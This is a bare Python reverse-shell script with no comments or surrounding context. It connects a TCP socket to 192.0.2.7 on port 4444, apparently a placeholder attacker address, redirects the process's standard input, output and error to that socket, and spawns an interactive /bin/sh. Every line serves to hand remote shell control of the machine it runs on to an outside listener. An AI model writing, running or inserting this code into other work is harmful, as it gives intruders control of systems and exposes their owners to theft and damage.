import os
import pty
import socket

link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("192.0.2.7", 4444))
for stream in (0, 1, 2):
    os.dup2(link.fileno(), stream)
pty.spawn("/bin/sh")
